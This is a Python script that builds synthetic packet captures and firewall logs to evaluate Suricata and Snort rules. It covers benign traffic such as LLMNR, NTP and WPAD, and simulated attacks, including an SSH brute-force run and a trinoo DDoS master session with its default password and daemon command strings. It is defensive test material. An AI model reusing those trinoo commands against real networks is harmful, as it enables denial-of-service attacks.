#!/usr/bin/env python3
"""Builds the labelled evaluation set in tests/eval/ (see tests/eval/README.md).

    python3 scripts/make-eval.py craft [SCENARIO...]   # write the captures and context logs
    python3 scripts/make-eval.py run   [SCENARIO...]   # run the real engines over them
    python3 scripts/make-eval.py check [SCENARIO...]   # every alert matches exactly one expect
    python3 scripts/make-eval.py labels                # write tests/eval/labels.toml
    python3 scripts/make-eval.py all                   # craft, run, check, labels

Every scenario is one function below that writes its traffic (and, for some, the firewall log a
site would have kept beside it), plus a table entry saying which engine and rules ran over it
and what the truth is. The truth comes from how the traffic was made, never from fpx.

Deterministic: every random choice comes from random.Random(seed) with a fixed seed per
scenario, and every timestamp from a fixed start time, so a rebuild writes the same captures
byte for byte. The engines' outputs differ between runs only in Suricata's flow_id values
(its flow hash is seeded at random per process) and unified2 file names (Snort appends the
start time; the script renames the file to unified2.log).

Needs: scapy (pip install scapy), Suricata 8.0.6 at /opt/suricata/bin/suricata, Snort 3.11.1
at /opt/snort3/bin/snort, and the public corpus at ../shared/corpus (FPX_CORPUS), whose rule
sets are read in place.
"""

import argparse
import hashlib
import ipaddress
import json
import os
import random
import shutil
import struct
import subprocess
import sys
import time
from calendar import timegm

from scapy.all import (  # noqa: F401  (scapy's star-module layout)
    DNS, DNSQR, DNSRR, Ether, ICMP, ICMPv6EchoRequest, IP, IPerror, IPv6, Raw, TCP, TCPerror,
    UDP, UDPerror, wrpcap,
)

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
EVAL = os.path.join(ROOT, "tests", "eval")
CORPUS = os.environ.get("FPX_CORPUS", os.path.join(os.path.dirname(ROOT), "shared", "corpus"))
SURICATA = "/opt/suricata/bin/suricata"
SNORT = "/opt/snort3/bin/snort"
SNORT_LUA = "/opt/snort3/etc/snort/snort.lua"

# Pcaps larger than this stay out of the repository (the brief's limit); the engine output is
# kept either way, and the capture is rebuilt by `craft`.
MAX_KEPT_PCAP = 200 * 1024

# The site's networks, as in tests/eval/config/suricata.yaml and snort3-eval.lua.
HOME_NET = "[10.0.0.0/8,172.16.0.0/12,192.168.0.0/16,203.0.113.0/24,2001:db8:10::/48,fe80::/10]"
HOME_NETS = [ipaddress.ip_network(n) for n in HOME_NET.strip("[]").split(",")]

GATEWAY_MAC = "00:1b:21:3a:4f:01"   # the site's router: every off-LAN address is behind it


def ts(text):
    """'2024-03-05 09:12:30.250' (UTC) -> epoch seconds as float."""
    day, clock = text.split(" ")
    hms, _, frac = clock.partition(".")
    whole = timegm(time.strptime(day + " " + hms, "%Y-%m-%d %H:%M:%S"))
    return whole + (float("0." + frac) if frac else 0.0)


def is_home(addr):
    ip = ipaddress.ip_address(addr)
    return any(ip in n for n in HOME_NETS)


def host_mac(addr):
    """A stable locally-administered MAC per LAN address; the router's for everything else."""
    ip = ipaddress.ip_address(addr)
    if ip.is_multicast:
        if ip.version == 4:
            b = ip.packed
            return "01:00:5e:%02x:%02x:%02x" % (b[1] & 0x7F, b[2], b[3])
        b = ip.packed
        return "33:33:%02x:%02x:%02x:%02x" % (b[12], b[13], b[14], b[15])
    if addr.endswith(".255") or addr == "255.255.255.255":
        return "ff:ff:ff:ff:ff:ff"
    lan = (ip.version == 4 and (ip.is_private and not addr.startswith("203."))) or \
          (ip.version == 6 and (ip.is_link_local or addr.startswith("2001:db8:10:")))
    if not lan:
        return GATEWAY_MAC
    h = hashlib.sha256(addr.encode()).digest()
    return "02:%02x:%02x:%02x:%02x:%02x" % tuple(h[:5])


class Capture:
    """Packets with timestamps; written sorted by time (stable for equal times)."""

    def __init__(self):
        self.pkts = []

    def add(self, pkt, t):
        pkt.time = t
        self.pkts.append(pkt)
        return pkt

    def write(self, path):
        pkts = sorted(self.pkts, key=lambda p: float(p.time))
        wrpcap(path, pkts)


def l3(src, dst, ttl=64, ident=None, **kw):
    if ":" in src:
        kw.pop("df", None)
        return IPv6(src=src, dst=dst, hlim=ttl, **kw)
    ipkw = dict(kw)
    if ident is not None:
        ipkw["id"] = ident
    return IP(src=src, dst=dst, ttl=ttl, flags="DF" if ipkw.pop("df", True) else 0, **ipkw)


def frame(src, dst, smac=None, dmac=None):
    return Ether(src=smac or host_mac(src), dst=dmac or host_mac(dst))


def udp(cap, t, src, sport, dst, dport, payload, ttl=64, ident=None, chksum=None, df=False):
    u = UDP(sport=sport, dport=dport)
    if chksum is not None:
        u.chksum = chksum
    p = frame(src, dst) / l3(src, dst, ttl=ttl, ident=ident, df=df) / u / Raw(payload)
    return cap.add(p, t)


def icmp(cap, t, src, dst, layer, ttl=64, ident=None):
    p = frame(src, dst) / l3(src, dst, ttl=ttl, ident=ident, df=False) / layer
    return cap.add(p, t)


class Tcp:
    """One TCP connection with real sequence numbers, ACKs, window and IP ids.

    `t` is the connection's clock; every method advances it. The client's and server's TTLs
    are those the sensor sees (64 for a LAN host, less for a host some hops away)."""

    def __init__(self, cap, rng, client, cport, server, sport, t, ttl_c=64, ttl_s=64,
                 rtt=0.020, win_c=64240, win_s=65160, mss=1460):
        self.cap, self.rng = cap, rng
        self.c, self.cp, self.s, self.sp = client, cport, server, sport
        self.t, self.rtt, self.mss = t, rtt, mss
        self.ttl = {True: ttl_c, False: ttl_s}
        self.win = {True: win_c, False: win_s}
        self.seq = {True: rng.getrandbits(32), False: rng.getrandbits(32)}
        self.ack = {True: 0, False: 0}
        self.ipid = {True: rng.randrange(1, 65000), False: rng.randrange(1, 65000)}
        self.csum_bad = {True: False, False: False}

    def _pkt(self, from_client, flags, data=b"", dt=0.0, opts=None):
        self.t += dt
        src, sp, dst, dp = (self.c, self.cp, self.s, self.sp) if from_client else \
            (self.s, self.sp, self.c, self.cp)
        tcp = TCP(sport=sp, dport=dp, flags=flags, seq=self.seq[from_client] & 0xFFFFFFFF,
                  ack=self.ack[from_client] & 0xFFFFFFFF if "A" in flags else 0,
                  window=self.win[from_client], options=opts or [])
        if self.csum_bad[from_client]:
            tcp.chksum = 0  # left for the NIC to fill in (checksum offload)
        self.ipid[from_client] = (self.ipid[from_client] + 1) & 0xFFFF
        p = frame(src, dst) / l3(src, dst, ttl=self.ttl[from_client],
                                 ident=self.ipid[from_client]) / tcp
        if data:
            p = p / Raw(data)
        self.cap.add(p, self.t)
        n = len(data) + (1 if ("S" in flags or "F" in flags) else 0)
        self.seq[from_client] = (self.seq[from_client] + n) & 0xFFFFFFFF
        self.ack[not from_client] = self.seq[from_client]
        return p

    def open(self):
        self._pkt(True, "S", opts=[("MSS", self.mss), ("SAckOK", b""), ("WScale", 7)])
        self.ack[False] = self.seq[True]
        self._pkt(False, "SA", dt=self.rtt / 2, opts=[("MSS", self.mss), ("SAckOK", b""),
                                                        ("WScale", 7)])
        self._pkt(True, "A", dt=self.rtt / 2)
        return self

    def refused(self):
        """SYN answered by RST (closed port)."""
        self._pkt(True, "S", opts=[("MSS", self.mss)])
        self.ack[False] = self.seq[True]
        self._pkt(False, "RA", dt=self.rtt / 2)
        return self

    def unanswered(self, tries=1, backoff=1.0):
        for i in range(tries):
            self._pkt(True, "S", dt=0 if i == 0 else backoff * (2 ** (i - 1)),
                      opts=[("MSS", self.mss)])
            if i + 1 < tries:
                self.seq[True] = (self.seq[True] - 1) & 0xFFFFFFFF
        return self

    def send(self, from_client, data, dt=0.002, ack=True, think=0.0):
        """Data in MSS segments, then the receiver's ACK after half an RTT."""
        self.t += think
        for off in range(0, len(data), self.mss):
            chunk = data[off:off + self.mss]
            last = off + self.mss >= len(data)
            self._pkt(from_client, "PA" if last else "A", chunk, dt=dt)
        if ack:
            self._pkt(not from_client, "A", dt=self.rtt / 2)
        return self

    def request(self, data, think=0.0):
        return self.send(True, data, think=think)

    def respond(self, data, think=0.005):
        return self.send(False, data, think=think)

    def close(self, by_client=True, dt=0.01):
        a = by_client
        self._pkt(a, "FA", dt=dt)
        self._pkt(not a, "FA", dt=self.rtt / 2)
        self._pkt(a, "A", dt=self.rtt / 2)
        return self

    def reset(self, by_client=True, dt=0.01):
        self._pkt(by_client, "RA", dt=dt)
        return self


def http_date(t):
    return time.strftime("%a, %d %b %Y %H:%M:%S GMT", time.gmtime(t))


def http_get(host, path, ua, extra=()):
    lines = ["GET %s HTTP/1.1" % path, "Host: %s" % host, "User-Agent: %s" % ua,
             "Accept: */*"] + list(extra) + ["Connection: close", "", ""]
    return "\r\n".join(lines).encode()


def http_response(t, body, ctype="text/html; charset=UTF-8", status="200 OK",
                  server="Apache/2.4.57 (Debian)", extra=()):
    if isinstance(body, str):
        body = body.encode()
    head = ["HTTP/1.1 %s" % status, "Date: %s" % http_date(t), "Server: %s" % server,
            "Content-Type: %s" % ctype, "Content-Length: %d" % len(body)] + list(extra) + \
           ["Connection: close", "", ""]
    return "\r\n".join(head).encode() + body


def dns_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\x00"


def dns_query(txid, name, qtype=1, flags=0x0100, ar=b"", arcount=0):
    return struct.pack(">HHHHHH", txid, flags, 1, 0, 0, arcount) + dns_name(name) + \
        struct.pack(">HH", qtype, 1) + ar


def dns_answer_a(txid, name, addrs, ttl, flags=0x8180, qtype=1):
    out = struct.pack(">HHHHHH", txid, flags, 1, len(addrs), 0, 0) + dns_name(name) + \
        struct.pack(">HH", qtype, 1)
    for a in addrs:
        if qtype == 28:
            rdata = ipaddress.ip_address(a).packed
        else:
            rdata = ipaddress.ip_address(a).packed
        out += b"\xc0\x0c" + struct.pack(">HHIH", qtype, 1, ttl, len(rdata)) + rdata
    return out


def ephemeral(rng, lo=49152, hi=65535):
    return rng.randrange(lo, hi)


# --------------------------------------------------------------------------------------------
# Scenarios: each function writes the files of one folder and returns nothing. The table at
# the end (SCENARIOS) says how the engine runs over them and what the truth is.
# --------------------------------------------------------------------------------------------

SCENARIO_FUNCS = {}


def scenario(fn):
    SCENARIO_FUNCS[fn.__name__.replace("_", "-")] = fn
    return fn


# ---- false positives ------------------------------------------------------------------------

WIN_NAMES = ["Kristis-Laptop", "wpad", "OFFICE-PRN", "nas", "DESKTOP-7QH2K1", "isatap",
             "FamilyRoom-PC", "localhost-sync", "printer"]


def llmnr_query(txid, name, qtype=1):
    # RFC 4795 section 2.1.1: flags all zero for a standard query
    return dns_query(txid, name, qtype=qtype, flags=0x0000)


@scenario
def llmnr_thunder(out):
    """Seed 000 again: three Windows hosts resolve names by LLMNR (224.0.0.252:5355); the
    2010 rev 3 of the ThunderNetwork rule reads a transaction id 0x3200 as Xunlei's header."""
    rng = random.Random(1000)
    cap = Capture()
    hosts = [("192.168.88.23", "Kristis-Laptop"), ("192.168.88.31", "DESKTOP-7QH2K1"),
             ("192.168.88.40", "FamilyRoom-PC")]
    start = ts("2013-04-27 19:02:11.420")
    for hi, (ip, own) in enumerate(hosts):
        t = start + hi * 37.3
        n = 0
        while t < start + 2400:
            name = own if n % 4 == 0 else rng.choice(WIN_NAMES[1:])
            # a third of the resolutions carry the id 0x3200 (the rule's first content)
            txid = 0x3200 if n % 3 == 0 else rng.randrange(0, 65536)
            sport = ephemeral(rng)
            for rep in range(2):  # Windows sends each LLMNR query twice, 100 ms apart
                udp(cap, t + rep * 0.1, ip, sport, "224.0.0.252", 5355,
                    llmnr_query(txid, name), ttl=1, ident=rng.randrange(65536))
            t += rng.uniform(95, 260)
            n += 1
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def llmnr6_thunder(out):
    """LLMNR over IPv6 to ff02::1:3: rev 4 of the ThunderNetwork rule excludes 224.0.0.0/4
    only, so the same queries fire it again once HOME_NET holds fe80::/10."""
    rng = random.Random(1001)
    cap = Capture()
    hosts = [("fe80::a4b1:2c3d:4e5f:6071", "192.168.20.14", "LAB-WS14"),
             ("fe80::18f2:9b0e:77c1:d203", "192.168.20.17", "LAB-WS17"),
             ("fe80::5d6e:7f80:91a2:b3c4", "192.168.20.33", "Meeting-Room")]
    start = ts("2024-03-11 08:41:02.118")
    for hi, (ip6, ip4, own) in enumerate(hosts):
        t = start + hi * 21.7
        n = 0
        while t < start + 1800:
            name = own if n % 5 == 0 else rng.choice(["wpad", "fileserver", "printer-2f",
                                                     "teams-room", "isatap"])
            txid = 0x3200 if n % 2 == 0 else rng.randrange(0, 65536)
            sport = ephemeral(rng)
            for rep in range(2):
                udp(cap, t + rep * 0.1, ip6, sport, "ff02::1:3", 5355,
                    llmnr_query(txid, name), ttl=1)
                udp(cap, t + rep * 0.1 + 0.0004, ip4, sport + 1, "224.0.0.252", 5355,
                    llmnr_query(txid ^ 0x0101, name), ttl=1, ident=rng.randrange(65536))
            t += rng.uniform(150, 330)
            n += 1
    cap.write(os.path.join(out, "traffic.pcap"))


def gif_bytes(rng, size):
    """A GIF89a header and a body of LZW-coded noise: binary, with '>' here and there."""
    head = b"GIF89a" + struct.pack("<HH", 468, 60) + b"\xf7\x00\x00"
    palette = bytes(rng.randrange(256) for _ in range(768))
    body = bytes(rng.randrange(256) for _ in range(size - len(head) - len(palette) - 1))
    return head + palette + body + b";"


@scenario
def seed003_mstream_gif(out):
    """Seed 003: a NAT'ed client whose connection happened to get source port 12754 fetches
    three GIFs over one keep-alive connection; Snort 1.8's mstream rule (content '>' to port
    12754, no flow) fires on the responses."""
    rng = random.Random(1003)
    cap = Capture()
    client, server = "192.168.1.50", "198.51.100.7"
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:129.0) Gecko/20100101 Firefox/129.0"
    t = ts("2024-08-13 08:12:46.912")
    c = Tcp(cap, rng, client, 12751, server, 80, t, ttl_s=61, rtt=0.048).open()
    page = b"<html><head><title>Catalogue</title></head><body><img src=\"/img/banner.gif\">" + \
        b"<img src=\"/img/spring.gif\"><img src=\"/img/logo.gif\"><p>Spring catalogue 2024" + \
        b"</p></body></html>\n"
    c.request(http_get("www.catalog-shop.example", "/", ua))
    c.respond(http_response(c.t, page, server="Netscape-Enterprise/3.6"), think=0.03)
    c.close(by_client=False)
    g = Tcp(cap, rng, client, 12754, server, 80, c.t + 0.2, ttl_s=61, rtt=0.048).open()
    for path, size in (("/img/banner.gif", 5740), ("/img/spring.gif", 12010),
                       ("/img/logo.gif", 3288)):
        req = ("GET %s HTTP/1.1\r\nHost: www.catalog-shop.example\r\nUser-Agent: %s\r\n"
               "Accept: image/avif,image/webp,*/*\r\nReferer: http://www.catalog-shop.example/"
               "\r\nConnection: keep-alive\r\n\r\n" % (path, ua)).encode()
        g.request(req, think=0.004)
        body = gif_bytes(rng, size)
        resp = ("HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: %d\r\n"
                "Last-Modified: Fri, 15 Apr 1994 00:00:00 GMT\r\nDate: %s\r\n"
                "Server: Netscape-Enterprise/3.6\r\nKeep-Alive: timeout=15\r\n\r\n"
                % (len(body), http_date(g.t))).encode()
        g.respond(resp + body, think=0.03)
    g.close(by_client=True, dt=1.5)
    cap.write(os.path.join(out, "traffic.pcap"))

# ---- benign triggers ------------------------------------------------------------------------

CURL_UA = "curl/8.5.0"
FIREFOX_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
EDGE_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0")


def dns_lookup(cap, rng, t, client, resolver, name, answers, ttl=300, qtype=1, edns=False):
    """A stub resolver's query and the resolver's answer, 2-30 ms later."""
    txid = rng.randrange(65536)
    sport = ephemeral(rng)
    q = dns_query(txid, name, qtype=qtype)
    udp(cap, t, client, sport, resolver, 53, q, ident=rng.randrange(65536))
    a = dns_answer_a(txid, name, answers, ttl, qtype=qtype)
    udp(cap, t + rng.uniform(0.002, 0.03), resolver, 53, client, sport, a,
        ttl=64 if is_home(resolver) else 57, ident=rng.randrange(65536))
    return t + 0.035


@scenario
def testmyids(out):
    """Two analysts check a new sensor with http://testmyids.com/, whose page is the text
    'uid=0(root) gid=0(root) groups=0(root)': the id-check rule fires, as the page intends."""
    rng = random.Random(2001)
    cap = Capture()
    server = "198.51.100.14"
    t = ts("2024-05-21 14:03:12.051")
    for client, ua in (("10.10.5.21", CURL_UA), ("10.10.5.34", FIREFOX_UA),
                       ("10.10.5.21", CURL_UA)):
        t = dns_lookup(cap, rng, t, client, "10.10.0.53", "testmyids.com", [server], ttl=3600)
        c = Tcp(cap, rng, client, ephemeral(rng), server, 80, t, ttl_s=52, rtt=0.085).open()
        c.request(http_get("testmyids.com", "/", ua))
        c.respond(http_response(c.t, "uid=0(root) gid=0(root) groups=0(root)\n",
                                ctype="text/html", server="nginx/1.18.0 (Ubuntu)"))
        c.close(by_client=False)
        t = c.t + rng.uniform(40, 400)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def dropbox_lansync(out):
    """Dropbox LAN sync discovery: every desktop client broadcasts its host_int and
    namespaces to UDP 17500 every 30 s. The site allows Dropbox."""
    rng = random.Random(2002)
    cap = Capture()
    hosts = ["192.168.10.21", "192.168.10.35", "192.168.10.48", "192.168.10.52"]
    start = ts("2024-02-06 08:30:04.660")
    for i, h in enumerate(hosts):
        host_int = rng.getrandbits(60)
        ns = sorted(rng.randrange(10 ** 8, 10 ** 10) for _ in range(rng.randrange(1, 5)))
        msg = json.dumps({"host_int": host_int, "version": [2, 0], "displayname": "",
                          "port": 17500, "namespaces": ns}).encode()
        t = start + i * 7.9 + rng.uniform(0, 5)
        while t < start + 2 * 3600 + 600:
            for dst in ("255.255.255.255", "192.168.10.255"):
                udp(cap, t, h, 17500, dst, 17500, msg, ident=rng.randrange(65536))
                t += 0.0005
            t += 30 + rng.uniform(-0.02, 0.02)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def msft_connecttest(out):
    """Windows Network Connectivity Status Indicator: each laptop fetches
    http://www.msftconnecttest.com/connecttest.txt when it joins a network."""
    rng = random.Random(2003)
    cap = Capture()
    server = "198.51.100.80"
    t = ts("2024-09-02 07:52:40.300")
    hosts = ["10.40.8.%d" % n for n in (11, 12, 15, 23, 27, 31)]
    events = sorted((t + rng.uniform(0, 3600), h) for h in hosts for _ in range(2))
    for when, h in events:
        when = dns_lookup(cap, rng, when, h, "10.40.0.2", "www.msftconnecttest.com", [server],
                          ttl=20)
        c = Tcp(cap, rng, h, ephemeral(rng), server, 80, when, ttl_s=55, rtt=0.012).open()
        c.request(b"GET /connecttest.txt HTTP/1.1\r\nConnection: Close\r\n"
                  b"User-Agent: Microsoft NCSI\r\nHost: www.msftconnecttest.com\r\n\r\n")
        c.respond(http_response(c.t, "Microsoft Connect Test", ctype="text/plain",
                                server="Microsoft-IIS/10.0",
                                extra=["Cache-Control: max-age=30, must-revalidate"]))
        c.close(by_client=False)
    cap.write(os.path.join(out, "traffic.pcap"))


PAC = """function FindProxyForURL(url, host) {
    if (isPlainHostName(host) || dnsDomainIs(host, ".corp.example"))
        return "DIRECT";
    if (isInNet(dnsResolve(host), "10.0.0.0", "255.0.0.0"))
        return "DIRECT";
    return "PROXY proxy.corp.example:3128; DIRECT";
}
"""


@scenario
def wpad_dat(out):
    """Web Proxy Auto-Discovery as the site configured it: clients resolve
    wpad.corp.example by DNS and fetch /wpad.dat from the site's own PAC server."""
    rng = random.Random(2004)
    cap = Capture()
    pac_server = "10.0.0.8"
    t = ts("2024-04-15 08:01:10.000")
    for h in ["10.0.20.%d" % n for n in (31, 44, 45, 60, 71)]:
        t += rng.uniform(20, 300)
        t2 = dns_lookup(cap, rng, t, h, "10.0.0.53", "wpad.corp.example", [pac_server],
                        ttl=3600)
        c = Tcp(cap, rng, h, ephemeral(rng), pac_server, 80, t2, rtt=0.001).open()
        c.request(b"GET /wpad.dat HTTP/1.1\r\nConnection: Keep-Alive\r\nAccept: */*\r\n"
                  b"User-Agent: WinHttp-Autoproxy-Service/5.1\r\nHost: wpad.corp.example\r\n\r\n")
        c.respond(http_response(c.t, PAC, ctype="application/x-ns-proxy-autoconfig",
                                server="nginx/1.24.0"))
        c.close(by_client=True, dt=2.0)
    cap.write(os.path.join(out, "traffic.pcap"))


def ntp_client_packet(t, rng):
    # mode 3, version 4: a plain SNTP/NTP client request with the transmit timestamp set
    frac = rng.getrandbits(32)
    return struct.pack(">BBbbII4sQQQII", 0x23, 0, 0, 0x20, 0, 0, b"\0\0\0\0", 0, 0, 0,
                       int(t) + 2208988800, frac)


def ntp_server_packet(t, req_tx, rng, stratum=2, refid=b"\xc0\x00\x02\x7b"):
    sec = int(t) + 2208988800
    return struct.pack(">BBbbII4sQQQ", 0x24, stratum, 3, -23, 0x2A0, 0x4B1, refid,
                       (sec - 700) << 32, req_tx, (sec << 32) | rng.getrandbits(32)) + \
        struct.pack(">II", sec, rng.getrandbits(32))


def ntp_sync(cap, rng, t, client, server, cport=None):
    req = ntp_client_packet(t, rng)
    cport = cport or ephemeral(rng)
    udp(cap, t, client, cport, server, 123, req, ident=rng.randrange(65536))
    tx = struct.unpack(">Q", req[40:48])[0]
    udp(cap, t + rng.uniform(0.001, 0.04), server, 123, client, cport,
        ntp_server_packet(t, tx, rng), ident=rng.randrange(65536))


def ntp_mode7_request(impl, req=42):
    # RFC 1305 appendix / ntpd's ntp_request.h: R=0 M=0, version 2, mode 7; seq 0
    return struct.pack(">BBBBHH", 0x17, 0x00, impl, req, 0, 0) + b"\0" * 40


def ntp_mode7_monlist_response(impl, seq, more, entries, rng):
    # each mon_data entry: 72 bytes (v1 format of ntpdc's monlist); six per datagram
    data = b"".join(struct.pack(">IIIIII", rng.randrange(1, 86400), rng.randrange(1, 86400),
                                rng.randrange(1, 1000), rng.getrandbits(32),
                                0, rng.randrange(1, 50)) + bytes(48) for _ in range(entries))
    b0 = 0x80 | (0x40 if more else 0) | 0x17
    return struct.pack(">BBBBHH", b0, seq & 0x7F, impl, 42, entries, 72) + data


@scenario
def ntp_scanner_monlist(out):
    """The site's own vulnerability scanner (10.0.5.10, a scheduled authorised scan) asks the
    three inside NTP servers for MON_LIST, twice each (ntpdc's retry); they answer with an
    error, as patched ntpd does. Ordinary NTP client sync goes on around it."""
    rng = random.Random(2005)
    cap = Capture()
    servers = ["10.0.0.123", "10.0.0.124", "10.0.1.123"]
    t0 = ts("2024-06-04 02:00:05.000")
    for i in range(40):  # clients syncing every 64 s
        ntp_sync(cap, rng, t0 + i * 16.1, "10.0.%d.%d" % (rng.randrange(2, 9), rng.randrange(10, 200)),
                 rng.choice(servers))
    t = t0 + 120
    for s in servers:
        for attempt in range(2):
            sport = ephemeral(rng)
            udp(cap, t, "10.0.5.10", sport, s, 123, ntp_mode7_request(2),
                ident=rng.randrange(65536))
            # INFO_ERR_IMPL answer (err 1 in the high nibble of byte 4), no data
            udp(cap, t + 0.0008, s, 123, "10.0.5.10", sport,
                struct.pack(">BBBBHH", 0x97, 0, 2, 42, 0x1000, 0), ident=rng.randrange(65536))
            t += 1.2
        t += 7.5
    cap.write(os.path.join(out, "traffic.pcap"))


# ---- firewall logs written beside the captures (context, in the devices' own syntax) ---------

def syslog_time(t):
    return time.strftime("%b %e %H:%M:%S", time.gmtime(t))


FW_OUTSIDE_MAC = "00:1b:21:3a:4f:00"   # the border firewall's outside interface
UPSTREAM_MAC = "00:25:90:0e:4c:7a"     # the provider's router in front of it


def netfilter_line(t, host, prefix, p, boot, in_if="eth0", out_if="eth1"):
    """One iptables LOG line for packet `p` as the kernel writes it in the FORWARD chain of
    the border firewall (booted at `boot`): MAC is destination, source and EtherType of the
    frame as it arrived on the outside interface."""
    ipl = p[IP] if IP in p else p[IPv6]
    mac = "%s:%s:%s" % (FW_OUTSIDE_MAC, UPSTREAM_MAC, "08:00" if IP in p else "86:dd")
    kup = t - boot
    head = "%s %s kernel: [%12.6f] %sIN=%s OUT=%s MAC=%s SRC=%s DST=%s " % (
        syslog_time(t), host, kup, prefix, in_if, out_if, mac, ipl.src, ipl.dst)
    if IP in p:
        head += "LEN=%d TOS=0x%02X PREC=0x00 TTL=%d ID=%d %sPROTO=" % (
            len(ipl), ipl.tos, ipl.ttl, ipl.id, "DF " if ipl.flags.DF else "")
    else:
        head += "LEN=%d TC=0 HOPLIMIT=%d FLOWLBL=0 PROTO=" % (len(ipl), ipl.hlim)
    if TCP in p:
        tc = p[TCP]
        fl = " ".join(n for n, b in (("ACK", "A"), ("PSH", "P"), ("RST", "R"), ("SYN", "S"),
                                      ("FIN", "F")) if b in str(tc.flags))
        return head + "TCP SPT=%d DPT=%d WINDOW=%d RES=0x00 %s URGP=0 " % (
            tc.sport, tc.dport, tc.window, fl)
    if UDP in p:
        u = p[UDP]
        return head + "UDP SPT=%d DPT=%d LEN=%d " % (u.sport, u.dport, len(u))
    if ICMP in p:
        ic = p[ICMP]
        return head + "ICMP TYPE=%d CODE=%d ID=%d SEQ=%d " % (ic.type, ic.code, ic.id, ic.seq)
    return head + "%d " % ipl.nh


def ipchains_line(t, host, p, chain="input", action="ACCEPT", iface="eth0", rule=1):
    ipl = p[IP]
    if TCP in p:
        proto, sp, dp = 6, p[TCP].sport, p[TCP].dport
    elif UDP in p:
        proto, sp, dp = 17, p[UDP].sport, p[UDP].dport
    else:
        proto, sp, dp = 1, p[ICMP].type, p[ICMP].code
    frag = 0x4000 if ipl.flags.DF else 0
    syn = " SYN" if TCP in p and str(p[TCP].flags) == "S" else ""
    return "%s %s kernel: Packet log: %s %s %s PROTO=%d %s:%d %s:%d L=%d S=0x%02X I=%d " \
        "F=0x%04X T=%d%s (#%d)" % (syslog_time(t), host, chain, action, iface, proto, ipl.src,
                                  sp, ipl.dst, dp, len(ipl), ipl.tos, ipl.id, frag, ipl.ttl,
                                  syn, rule)


def asa_line(t, severity, msg):
    """An ASA syslog message as the box sends it with `logging timestamp`: the PRI of
    facility local4, the timestamp with the year, then the message id and text."""
    return "<%d>%s: %%ASA-%d-%s" % (20 * 8 + severity, time.strftime("%b %d %Y %H:%M:%S",
                                                                     time.gmtime(t)),
                                    severity, msg)


def write_lines(path, lines):
    with open(path, "w") as f:
        for _, line in sorted(lines, key=lambda x: x[0]):
            f.write(line + "\n")


# ---- true positives -------------------------------------------------------------------------

def ssh_banner_exchange(c, rng, client_banner, server_banner):
    c.respond(server_banner + b"\r\n", think=0.003)
    c.request(client_banner + b"\r\n", think=0.002)
    # KEXINIT each way: binary packets (length, padding, type 20, cookie, name-lists)
    names = b"curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256"
    body = b"\x14" + bytes(rng.randrange(256) for _ in range(16)) + \
        struct.pack(">I", len(names)) + names + b"\x00" * 41
    pad = 8 - (len(body) + 5) % 8 + 4
    pkt = struct.pack(">IB", len(body) + pad + 1, pad) + body + bytes(pad)
    c.respond(pkt, think=0.001)
    c.request(pkt, think=0.002)


@scenario
def ssh_bruteforce(out):
    """An Internet host guesses passwords on the site's public SSH server (203.0.113.22):
    48 connections in 16 minutes, each a libssh client that completes the key exchange, sends
    a few encrypted password attempts and is disconnected; the server answers every one. The
    border firewall logs each new inbound SSH connection (netfilter LOG, FORWARD chain)."""
    rng = random.Random(3001)
    cap = Capture()
    attacker, server = "198.51.100.77", "203.0.113.22"
    t = ts("2024-07-18 03:14:07.500")
    fw = []
    boot = t - 7302417.61
    for i in range(48):
        c = Tcp(cap, rng, attacker, ephemeral(rng, 32768, 60999), server, 22, t, ttl_c=47,
                rtt=0.140, win_c=29200)
        c.open()
        fw.append((t, netfilter_line(t, "gw01", "SSH-NEW ", c.cap.pkts[-3], boot)))
        ssh_banner_exchange(c, rng, b"SSH-2.0-libssh_0.9.6", b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2")
        for _ in range(3):  # encrypted password attempts and the server's failure replies
            c.request(bytes(rng.randrange(256) for _ in range(rng.choice((84, 100, 116)))),
                      think=0.05)
            c.respond(bytes(rng.randrange(256) for _ in range(52)), think=rng.uniform(1.8, 2.4))
        c.close(by_client=False)
        t += rng.uniform(14, 26)
    cap.write(os.path.join(out, "traffic.pcap"))
    write_lines(os.path.join(out, "firewall.log"), fw)


@scenario
def trinoo_master(out):
    """A compromised inside host (10.20.0.5) runs a trinoo master. The attacker logs in to it
    on 27665 with the default password and issues commands; four trinoo daemons on the
    Internet register (*HELLO*) and answer the master's 'png l44adsl' with PONG on 31335."""
    rng = random.Random(3002)
    cap = Capture()
    master, attacker = "10.20.0.5", "198.51.100.9"
    daemons = ["198.51.100.%d" % n for n in (31, 32, 57)] + ["192.0.2.144"]
    t = ts("2000-02-09 22:41:03.000")
    for i, d in enumerate(daemons):  # daemons start up and say hello to the master
        udp(cap, t + i * 41.7, d, rng.randrange(1024, 5000), master, 31335, b"*HELLO*",
            ttl=49, ident=rng.randrange(65536))
    t += 200
    c = Tcp(cap, rng, attacker, rng.randrange(1024, 5000), master, 27665, t, ttl_c=50,
            rtt=0.090, win_c=32120, win_s=32120).open()
    c.request(b"betaalmostdone\n", think=0.5)
    c.respond(b"trinoo v1.07d2+f3+c..[rpm8d/cb4Sx/]\n\n\ntrinoo>", think=0.01)
    c.request(b"png\n", think=3.0)
    t2 = c.t
    for i, d in enumerate(daemons):
        udp(cap, t2 + 0.01 * i, master, 1026 + i, d, 27444, b"png l44adsl",
            ident=rng.randrange(65536))
        udp(cap, t2 + 0.2 + 0.03 * i, d, rng.randrange(1024, 5000), master, 31335, b"PONG",
            ttl=49, ident=rng.randrange(65536))
    c.respond(b"Sending a PING to every Bcast.\ntrinoo>", think=0.4)
    c.request(b"dos 203.0.113.99\n", think=6.0)
    t3 = c.t
    for i, d in enumerate(daemons):
        udp(cap, t3 + 0.01 * i, master, 1030 + i, d, 27444, b"aaa l44adsl 203.0.113.99",
            ident=rng.randrange(65536))
    c.respond(b"DoSing 203.0.113.99 for 120 seconds.\ntrinoo>", think=0.1)
